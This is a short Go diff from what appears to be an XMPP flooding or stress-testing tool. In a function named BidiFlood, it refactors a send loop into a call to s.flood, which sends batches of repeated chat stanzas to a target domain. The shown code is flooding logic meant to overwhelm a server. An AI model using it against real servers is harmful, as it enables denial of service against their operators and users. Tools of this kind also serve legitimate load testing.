@@ -39,9 +39,7 @@ func BidiFlood(seconds int) Attack {
 			}
 			message := fmt.Sprintf("<message type='chat' from='a@%s' to='nobody@%s'><body>%s</body></message>",
 				domain, target.Domain, strings.Repeat("z", 200))
-			for ctx.Err() == nil && s.send("%s", strings.Repeat(message, 20)) == nil {
-				continue
-			}
+			s.flood(ctx, strings.Repeat(message, 20))
 			return nil
 		},
 	}
